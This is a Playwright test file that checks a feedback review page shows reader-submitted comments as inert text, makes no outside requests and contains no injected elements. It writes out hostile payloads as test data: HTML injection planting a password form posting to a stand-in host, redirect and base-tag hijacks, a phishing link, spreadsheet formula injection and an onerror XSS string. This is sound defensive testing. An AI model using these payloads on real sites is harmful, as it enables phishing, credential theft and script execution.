import { once } from 'node:events';
import { createServer } from 'node:http';
import { mkdtemp, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import type { AddressInfo } from 'node:net';
import { expect, test } from '@playwright/test';
import { openSqlite } from '../../server/database/open-sqlite.ts';
import { sampleRow } from '../../server/feedback/feedback-row.fixture.ts';
import { createFeedbackStore } from '../../server/feedback/feedback-store.ts';
import { reviewListener } from '../../server/review/review-listener.ts';
import { hostileValues } from './hostile-values.ts';
import { expectUnharmed, listenTo } from './oracle.ts';

/** What readers could write to those who read feedback. */
const payloads = [
  ...hostileValues.filter((value) => value.trim() !== '' && value.length < 1000),
  '</td></tr></table><form action="https://evil.test"><input name="password">',
  '</style><style>body{display:none}</style>',
  '<meta http-equiv="refresh" content="0;url=https://evil.test/">',
  '<base href="https://evil.test/">',
  '<a href="https://evil.test" target="_top">Log in again</a>',
  '<link rel="stylesheet" href="https://evil.test/a.css">',
  '-->]]><!--',
  '=HYPERLINK("https://evil.test","x")',
  '@SUM(1+1)*cmd|/C calc',
  'x'.repeat(1600),
].map((text) => text.replaceAll('\0', '').toWellFormed());

test('what readers wrote is text in the review, and nothing of it runs or breaks out', async ({
  page,
}) => {
  const folder = await mkdtemp(path.join(tmpdir(), 'review-page-'));
  const database = openSqlite(path.join(folder, 'feedback.sqlite'));
  const store = await createFeedbackStore(database);
  await store.add(
    payloads.map((comment, at) =>
      sampleRow({
        key: `hostile-${String(at).padStart(4, '0')}`,
        comment,
        section: comment.slice(0, 40),
      }),
    ),
  );
  const server = createServer(reviewListener(database));
  server.listen(0, '127.0.0.1');
  await once(server, 'listening');
  const { port } = server.address() as AddressInfo;
  const heard = listenTo(page);
  const asked: string[] = [];
  page.on('request', (request) => asked.push(new URL(request.url()).host));
  try {
    await page.goto(`http://127.0.0.1:${port}/`);
    const shown = await page.locator('body').evaluate((body) => body.textContent);
    const missing = payloads.filter((text) => !shown.includes(text.replaceAll('\r', '\n')));
    expect(missing.map((text) => JSON.stringify(text).slice(0, 60))).toEqual([]);
    await expectUnharmed(page);
    await expect(page.locator('form')).toHaveCount(1);
    await expect(page.locator('style')).toHaveCount(1);
    const foreign =
      'script, img, [onload], [onerror], iframe, base, link, object, meta[http-equiv], a[target]';
    await expect(page.locator(foreign)).toHaveCount(0);
    await expect(page.locator('h1')).toBeVisible();
    // Long words and turned directions stay in their own box.
    const overflow = await page.evaluate(
      () => document.documentElement.scrollWidth - document.documentElement.clientWidth,
    );
    expect(overflow).toBeLessThanOrEqual(0);
    await page.getByLabel('Words').fill('"><img src=x onerror=window.hostileRan=1>');
    await page.getByRole('button', { name: 'Filter' }).click();
    await expectUnharmed(page);
    expect(new Set(asked)).toEqual(new Set([`127.0.0.1:${port}`]));
    expect(heard).toEqual([]);
  } finally {
    server.closeAllConnections();
    server.close();
    await store.close();
    await rm(folder, { recursive: true });
  }
});
